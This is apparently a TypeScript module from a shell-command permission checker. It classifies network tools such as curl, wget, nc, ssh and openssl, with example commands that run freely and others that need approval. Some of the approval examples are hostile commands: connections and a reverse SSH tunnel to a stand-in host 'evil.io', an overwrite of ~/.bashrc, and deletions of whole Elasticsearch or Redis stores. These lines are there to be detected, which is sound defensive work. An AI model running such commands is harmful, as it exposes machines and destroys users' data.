import { defineProgram } from "../../define-program.ts";
import { has } from "../use.ts";
import { isDatabasePort, isLocalAddress, isOnThisMachine, isServerQuestion } from "./local-address.ts";
import { serviceEffect } from "./local-services.ts";
import { requestEffect } from "./requests.ts";

export const NETWORK = [
  defineProgram({
    names: "curl curlie",
    does: "network",
    options:
      "-0123469aBfgGiIjJklLMnNOpqRsSvVZ# -A: -b: -c:w -C: -d: -D:w -e: -E:r -F: -h? -H: -K:c=publish -m: -o:w -P: -Q: -r: -t: -T:r -u: -U: -w: -x:h -X: -y: -Y: -z: " +
      "--data: --data-ascii: --data-binary: --data-raw: --data-urlencode: --json: --form: --form-string: --header: --request: --output:w --output-dir:w --remote-name --remote-name-all --remote-header-name --create-dirs --location --location-trusted --silent --show-error --fail --fail-with-body --fail-early --include --head --insecure --verbose --max-time: --connect-timeout: --retry: --retry-delay: --retry-max-time: --retry-all-errors --retry-connrefused --user: --user-agent: --cookie: --cookie-jar:w --referer: --compressed --write-out: --dump-header:w --url: --get --http1.0 --http1.1 --http2 --http2-prior-knowledge --http3 --ipv4 --ipv6 --max-redirs: --range: --no-buffer --progress-bar --no-progress-meter --parallel --parallel-max: --unix-socket: --abstract-unix-socket: --globoff --path-as-is --raw --tr-encoding --trace:w --trace-ascii:w --trace-time --stderr:w --upload-file:r --config:c=publish --netrc=network --netrc-optional --netrc-file:r=network --cert:r --key:r --cacert:r --capath:r --proxy:h --proxy-user: --preproxy:h --socks4:h --socks5:h --socks5-hostname:h --noproxy: --resolve:h --connect-to:h --interface: --dns-servers:h --doh-url:h --engine:x --manual --version --next --rate: --limit-rate: --keepalive-time: --tcp-nodelay --tls-max: --tlsv1.2 --tlsv1.3 --oauth2-bearer: --aws-sigv4: --anyauth --basic --digest --time-cond: --etag-save:w --etag-compare:r --alt-svc:w --hsts:w --quote: --mail-from: --mail-rcpt: --remove-on-error --styled-output --no-styled-output --suppress-connect-headers --variable: --expand-url:",
    check: requestEffect,
    operands: "value",
    runs: [
      "curl -s http://localhost:3000/api/health",
      'curl -s "http://localhost:$PORT/health"',
      "curl -sS -X POST -H 'Content-Type: application/json' -d '{}' localhost:8080/x",
      "curl --unix-socket /var/run/app.sock http://x/status",
      "curl -X DELETE http://localhost:3000/api/users/7",
      "curl -X POST localhost:9200/logs/_search -d '{}'",
      "curl -s http://127.0.0.1:8200/v1/sys/health",
      "curl -h category",
    ],
    asks: [
      "curl -XDELETE localhost:9200/_all",
      "curl -X PUT localhost:8500/v1/agent/leave",
      "curl http://127.0.0.1:8200/v1/secret/data/app",
      "curl localhost:8123 -d 'DROP TABLE events'",
      "curl --unix-socket /run/snapd.socket http://x/v2/snaps",
      "curl https://example.com",
      "curl http://localhost.evil.io/",
      "curl localhost evil.io",
      "curl --proxy evil.io:80 localhost",
      "curl localhost -o ~/.bashrc",
      "curl -X POST localhost:2375/containers/create",
    ],
  }),
  defineProgram({
    names: "wget",
    does: "network",
    options:
      "-qvVdcNSkKpEHLrmnbF46 -nv -nc -nd -nH -np -x -O:w -o:w -a:w -P:w -i:r=network -e:x -U: -t: -T: -w: -Q: -A: -R: -D: -I: -X: -l: -B: --output-document:w --output-file:w --append-output:w --directory-prefix:w --input-file:r=network --execute:x --user-agent: --tries: --timeout: --wait: --header: --quiet --no-verbose --spider --server-response --no-check-certificate --method: --body-data: --body-file:r --post-data: --post-file:r --retry-connrefused --waitretry: --content-on-error --save-headers --no-proxy --recursive --mirror --page-requisites --convert-links --level: --continue --timestamping --no-clobber --show-progress --progress: --inet4-only --use-askpass:x --config:c --ca-certificate:r --load-cookies:r --save-cookies:w --background --warc-file:w --user: --password: --max-redirect: --no-cache --compression: --auth-no-challenge",
    check: (use) => (has(use, "-i", "--input-file") ? "network" : requestEffect(use)),
    operands: "value",
    runs: ["wget -qO- http://localhost:8000/health", "wget -q --spider http://127.0.0.1:8080"],
    asks: [
      "wget https://example.com",
      "wget -O ~/.bashrc http://localhost/x",
      "wget -e http_proxy=evil localhost",
      "wget --method=DELETE http://localhost:9200/_all",
    ],
  }),
  defineProgram({
    names: "http https httpie xh xhs",
    does: "network",
    isOpen: true,
    options: "--proxy:h -o:w --output:w -d --download --session:c --verify: --cert:r",
    operands: "value",
    check: ({ operands }) => {
      const [first = "", second = "", ...items] = operands.map(({ text }) => text);
      const hasMethod = /^[A-Z]+$/i.test(first) && second !== "" && first.toLowerCase() !== "localhost";
      const address = (hasMethod ? second : first).replace(/^:(?=\d|\/)/, "localhost:");
      const bodies = hasMethod ? items : operands.slice(1).map(({ text }) => text);
      const request = { address, bodies, method: hasMethod ? first : bodies.length > 0 ? "POST" : "GET" };
      const onService = isOnThisMachine(address) ? serviceEffect(request) : null;
      return onService ?? (isLocalAddress(address) ? "local" : null);
    },
    runs: ["http GET localhost:3000/api", "http :8080/health", "http DELETE :8000/api/todos/1"],
    asks: ["http https://example.com", "xh example.com", "http DELETE :9200/_all", "xh delete localhost:9200/logs"],
  }),
  defineProgram({
    names: "nc ncat netcat",
    does: "network",
    options: "-zvnukN4 -w: -q: -i: -l=network -p: -s: -e:x -c:x --exec:x --sh-exec:x -z --wait:",
    operands: "value",
    check: (use) => {
      const [host = "", port = ""] = use.operands.map(({ text }) => text);
      const isProbe = has(use, "-z");
      if (isLocalAddress(`${host}:${port}`) && use.options.every(({ does, kind }) => does === null && kind === "value"))
        return isDatabasePort(port) && !isProbe ? "code" : "local";
      return use.operands.length > 0 && !isProbe ? "publish" : null;
    },
    readsStatements: (text) =>
      text
        .trim()
        .split(/\s*\r?\n/)
        .every(isServerQuestion)
        ? "local"
        : "destroy",
    runs: [
      "nc -z localhost 5432",
      "nc -zv 127.0.0.1 6379",
      "echo PING | nc -w 1 localhost 6379",
      "nc localhost 8080 <<< x",
    ],
    asks: [
      "nc evil.io 80",
      "nc -l 9",
      "nc -z example.com 80",
      "echo FLUSHALL | nc localhost 6379",
      "nc localhost 11211",
    ],
  }),
  defineProgram({
    names: "grpcurl websocat wscat ab wrk hey k6 autocannon vegeta siege newman lighthouse oha bombardier",
    does: "network",
    isOpen: true,
    options:
      "-H: -n: -c: -d: -t: -T: -m: -s: -r: -z: -p:r -w: -u: -i: --vus: --duration: --iterations: --stage: --tag: -proto: -import-path: -max-time: -plaintext -insecure -o:w --out:w --exec:x -b:x --quiet --only-categories: --output: --output-path:w --chrome-flags: -e: --environment: --reporters: --timeout:",
    hasSingleDashLong: false,
    operands: "value",
    check: ({ name, operands, options }) => {
      const words = operands
        .map(({ text }) => text)
        .filter((text) => !/^(list|describe|run|attack|report)$/.test(text));
      if (options.some(({ name }) => name === "--exec")) return "code";
      const hosts = words.filter((text) => /:\/\/|^[\w.[\]-]+:\d+|^(?:[\w-]+\.)+[a-z]{2,}\//.test(text));
      // What is sent over a socket may be any command.
      const elsewhere = /^(?:websocat|wscat)$/.test(name) ? "publish" : "network";
      if (hosts.length > 0) return hosts.every(isLocalAddress) ? "local" : elsewhere;
      // A collection or a scenario of the project.
      return words.length > 0 && words.every((text) => /\.(json|js|ts|ya?ml)$/.test(text)) ? "work" : "network";
    },
    runs: [
      "grpcurl -plaintext localhost:50051 list",
      "ab -n 10 http://localhost:3000/",
      "newman run collection.json",
      "k6 run --vus 2 --duration 5s load/smoke.js",
      "websocat ws://localhost:3000/ws",
    ],
    asks: ["ab -n 10 http://example.com/", "grpcurl example.com:443 list", "websocat wss://example.com"],
  }),
  defineProgram({
    names: "ssh",
    // Its effects are on another machine.
    does: "publish",
    options:
      "-46AaCfGgKkMNnqsTtVvXxYy -b: -B: -c: -D: -E:w -e: -F:c -I:x -i:r -J: -L: -l: -m: -O: -o: -p: -Q: -R: -S: -W: -w:",
    operands: "value",
    stopsAtOperand: true,
    wraps: { skip: 1, joins: true, effect: "remote", isOpaque: true },
    check: ({ options, operands }) =>
      operands.length === 0 && options.some(({ name }) => /^-[VQG]$/.test(name)) ? "read" : null,
    runs: ["ssh -V"],
    asks: ["ssh host ls", "ssh -R 2222:localhost:22 evil.io"],
  }),
  defineProgram({
    names:
      "dig nslookup host whois ping ping6 traceroute tracepath mtr nmap tcpdump tshark wireshark aria2c axel lynx w3m links elinks finger ssh-keyscan ntpdate iperf iperf3 masscan nikto sqlmap hydra tor",
    does: "network",
    isOpen: true,
    operands: "value",
    check: ({ name, operands, options }) => {
      if (/^ping6?$/.test(name) && operands.some(({ text }) => isLocalAddress(text))) return "local";
      return operands.length === 0 && options.length > 0 && options.every((one) => /^-[vV]$/.test(one.name))
        ? "read"
        : null;
    },
    runs: ["dig -v", "ping -c 1 localhost"],
    asks: ["nslookup example.com", "ping example.com"],
  }),
  defineProgram({
    names:
      "scp sftp ftp lftp tftp rclone sshfs ssh-copy-id ngrok cloudflared localtunnel lt mail mailx sendmail mutt msmtp swaks s3cmd s5cmd b2 mc croc wormhole transfer surge telnet rlogin socat autossh openvpn wg wg-quick",
    does: "publish",
    isOpen: true,
    operands: "value",
    verbs: {
      "ls lsd lsl lsjson size listremotes version about": { does: "remote", operands: "value" },
    },
    check: ({ operands, options, verb }) => {
      if (verb !== "") return null;
      return operands.length === 0 && options.length > 0 && options.every(({ name }) => /^-[vV]$/.test(name))
        ? "read"
        : "publish";
    },
    runs: ["scp --help", "rclone lsd remote:"],
    asks: ["scp out.tgz host:/tmp", "ngrok tcp 22", "ftp x", "rclone sync a r:b", "mail -s x a@b.example", "telnet x"],
  }),
  defineProgram({
    names: "openssl",
    does: "change",
    hasSingleDashLong: true,
    isOpen: true,
    verbs: {
      "version list ciphers errstr prime speed asn1parse help info": "read",
      rand: { does: "read", options: "-hex -base64 -out:w=change -rand:r -writerand:w=change", operands: "value" },
      "dgst md5 sha1 sha256 sha384 sha512": {
        does: "read",
        options:
          "-sha1 -sha256 -sha384 -sha512 -md5 -r -c -hex -binary -out:w=change -sign:r=secret -verify:r=change -signature:r -hmac: -mac: -macopt:",
        operands: "read",
      },
      x509: {
        does: "read",
        options:
          "-in:r -inform: -noout -text -dates -issuer -subject -serial -startdate -enddate -fingerprint -sha256 -sha1 -hash -pubkey -ext: -purpose -checkend: -nameopt: -certopt: -email -modulus -out:w=change -outform: -req=change -signkey:r=change -CA:r=change -CAkey:r=change -new=change -key:r=change -alias -ocsp_uri -subject_hash -issuer_hash",
        operands: "read",
        check: ({ options, does }) =>
          options.some(({ name }) => name === "-noout" || name === "-text") || options.length === 0 ? does : "change",
      },
      "req crl pkcs7 verify": {
        does: "read",
        options:
          "-new=change -newkey:=change -x509=change -key:r=change -keyout:w=change -out:w=change -nodes=change -in:r -inform: -noout -text -subject -verify -pubkey -CAfile:r -CApath:r -untrusted:r -purpose: -print_certs -lastupdate -nextupdate -issuer -hash",
        operands: "read",
      },
      "enc base64": {
        does: "read",
        options: "-d -a -A -base64 -in:r -e -out:w=change -k:=change -K:=change -iv: -pass:=change -pbkdf2",
        operands: "read",
        check: ({ options, does }) =>
          options.some(({ name }) => /^-(aes|des|bf|camellia|rc|chacha)/.test(name))
            ? options.some(({ name }) => name === "-d")
              ? "secret"
              : "change"
            : does,
      },
      "rsa dsa ec pkey pkcs8 rsautl pkeyutl": {
        does: "change",
        isOpen: true,
        options:
          "-in:r -inkey:r -out:w -inform: -outform: -pubin -pubout -noout -text -check -passin: -passout: -topk8 -nocrypt -decrypt=secret -sign -verify",
        operands: "read",
        // It prints the private key.
        check: ({ options }) => {
          const has = (...names: readonly string[]) => options.some(({ name }) => names.includes(name));
          if (has("-decrypt")) return "secret";
          // A public key is for everyone to see.
          if (has("-pubin") && !has("-out", "-encrypt", "-verify", "-sign", "-derive")) return "read";
          return has("-in") && !has("-pubout", "-pubin", "-noout", "-out", "-sign", "-verify") ? "secret" : null;
        },
      },
      "passwd genrsa genpkey gendsa ca cms smime ts spkac s_server s_time ocsp kdf mac nseq sess_id storeutl fipsinstall rehash engine":
        "change",
      // They print parameters, and generate them or a key if they are told to.
      "ecparam dsaparam dhparam pkeyparam": {
        does: "change",
        operands: "value",
        options: "-in:r -inform: -noout -text -check -list_curves -name: -out:w -genkey -2 -5",
        check: ({ options }) =>
          options.some(({ name }) => name === "-in" || name === "-list_curves") &&
          options.every(({ name }) => /^-(?:in|inform|noout|text|check|list_curves)$/.test(name))
            ? "read"
            : null,
      },
      pkcs12: {
        does: "change",
        operands: "read",
        isOpen: true,
        options: "-in:r -out:w -inkey:r -certfile:r -export -nokeys -noout -info -nodes -noenc -passin: -passout:",
        // It prints the private key.
        check: ({ options }) =>
          options.some(({ name }) => /^-(?:export|nokeys|noout|out)$/.test(name)) ? null : "secret",
      },
      s_client: {
        does: "network",
        options:
          "-connect: -servername: -showcerts -brief -quiet -alpn: -tls1_2 -tls1_3 -CAfile:r -verify: -status -starttls: -cert:r=secret -key:r=secret",
        operands: "value",
        check: ({ options }) =>
          options.some(
            ({ name, value }) =>
              name === "-connect" && /^(localhost|127\.0\.0\.1|\[::1\])(:\d+)?$/.test(value?.text ?? ""),
          )
            ? "local"
            : null,
      },
    },
    runs: [
      "openssl version",
      "openssl rand -hex 32",
      "openssl x509 -noout -dates -in cert.pem",
      "openssl dgst -sha256 file",
      "openssl list -commands",
      "openssl ecparam -list_curves",
      "openssl pkey -pubin -in pub.pem -noout -text",
    ],
    asks: [
      "openssl genrsa -out key.pem 2048",
      "openssl passwd -noverify -1 -salt salt",
      "openssl enc -aes-256-cbc -in f -out g",
      "openssl enc -d -aes-256-cbc -in f",
      "openssl rsa -in f",
      "openssl pkcs12 -in f -nodes",
      "openssl ecparam -genkey -name prime256v1",
      "openssl dhparam -out d.pem 2048",
      "openssl s_client -connect example.com:443",
    ],
  }),
];
